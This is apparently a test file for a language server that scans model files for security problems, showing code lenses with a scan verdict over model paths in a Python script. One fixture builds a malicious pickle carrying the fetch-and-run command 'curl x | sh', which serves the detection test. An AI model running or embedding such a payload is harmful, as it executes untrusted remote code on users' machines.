// Code lenses on string literals that name local model files: resolved against the script's
// folder and the workspace folder, "not scanned yet" until an on-demand scan stores the verdict
// (then `workspace/codeLens/refresh`), the command opens the report, and a model file changing on
// disk refreshes the lenses with its new verdict.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { CodeLens } from 'vscode-languageserver-protocol';
import { TestClient } from './helpers/lspClient';
import { benignPickle, maliciousPickle } from './helpers/pickles';
import { makeWorkspace, removeWorkspace, writeFile } from './helpers/workspace';

const SCRIPT = [
  'import torch, numpy as np',
  'from transformers import AutoModel',
  'a = torch.load("models/bad.pt", weights_only=True)', // relative to the workspace folder
  'b = torch.load("../models/ok.pkl", weights_only=True)', // relative to the script's folder
  'm = AutoModel.from_pretrained("./ckpt")', // a folder of weights, relative to the workspace folder
  'c = np.load("missing.npy")', // does not exist: no lens
  'note = "models/bad.pt is the old one"', // not a path that exists
  'd = torch.load(f"models/{name}.pt")', // interpolated: no lens
  '',
].join('\n');

describe('language server: code lenses on model paths', () => {
  let root: string;
  let client: TestClient;
  let uri: string;

  const lenses = async () => (await client.connection.sendRequest('textDocument/codeLens', { textDocument: { uri } })) as CodeLens[];
  const titles = (ls: CodeLens[]) => ls.map((l) => `${l.range.start.line}:${l.range.start.character} ${l.command!.title}`);

  before(async () => {
    root = makeWorkspace({
      'models/bad.pt': maliciousPickle('curl x | sh'),
      'models/ok.pkl': benignPickle(),
      'ckpt/pytorch_model.bin': benignPickle(),
      'ckpt/config.json': '{}',
    });
    client = await TestClient.start({ root, settings: { scanOnStartup: false } });
    uri = client.uri('scripts/train.py');
  });

  after(() => {
    client?.kill();
    if (root) removeWorkspace(root);
  });

  it('declares a code lens provider', () => {
    assert.ok(client.initializeResult.capabilities.codeLensProvider);
  });

  it('shows "not scanned yet" first, scans on demand, then asks the client to refresh', async () => {
    await client.open(uri, SCRIPT);
    await client.waitForDiagnostics(uri, () => true);
    const refreshes = client.codeLensRefreshes.length;
    const first = await lenses();
    assert.deepEqual(titles(first), [
      '2:15 Model Security Lint: bad.pt: not scanned yet',
      '3:15 Model Security Lint: ok.pkl: not scanned yet',
      '4:30 Model Security Lint: ckpt/ (1 model file): not scanned yet',
    ]);
    await client.waitFor(() => client.codeLensRefreshes.length > refreshes, 'workspace/codeLens/refresh');
  });

  it('then shows each file\'s verdict; the command opens the report of that file', async () => {
    const ls = await lenses();
    const t = titles(ls);
    assert.match(t[0]!, /^2:15 Model Security Lint: bad\.pt: \d+ critical/);
    assert.equal(t[1], '3:15 Model Security Lint: ok.pkl: no findings');
    assert.equal(t[2], '4:30 Model Security Lint: ckpt/ (1 model file): no findings');
    assert.deepEqual(ls[0]!.command!.command, 'msl.openReport');
    assert.deepEqual(ls[0]!.command!.arguments, [client.uri('models/bad.pt')]);
    assert.deepEqual(ls[1]!.command!.arguments, [client.uri('models/ok.pkl')]);
    assert.deepEqual(ls[2]!.command!.arguments, [client.uri('ckpt/pytorch_model.bin')]);
  });

  it('a referenced model file that changes on disk is rescanned and the lenses refresh with its new verdict', async () => {
    const refreshes = client.codeLensRefreshes.length;
    writeFile(root, 'models/ok.pkl', maliciousPickle('id'));
    await client.fileEvents([{ uri: client.uri('models/ok.pkl'), type: 2 }]);
    await client.waitFor(() => client.codeLensRefreshes.length > refreshes, 'refresh after the change');
    const t = titles(await lenses());
    assert.match(t[1]!, /^3:15 Model Security Lint: ok\.pkl: \d+ critical/);
    assert.equal(client.latest(client.uri('models/ok.pkl'))!.diagnostics.length > 0, true, 'the model file\'s own diagnostics were refreshed too');
  });

  it('a file that is not referenced changing on disk does not refresh the lenses', async () => {
    writeFile(root, 'other/unrelated.pkl', benignPickle());
    const seq = client.seq;
    const refreshes = client.codeLensRefreshes.length;
    await client.fileEvents([{ uri: client.uri('other/unrelated.pkl'), type: 1 }]);
    await client.waitForDiagnostics(client.uri('other/unrelated.pkl'), () => true, seq);
    await new Promise((r) => setTimeout(r, 300));
    assert.equal(client.codeLensRefreshes.length, refreshes);
  });

  it('shuts down cleanly', async () => {
    assert.equal(await client.shutdown(), 0);
  });
});
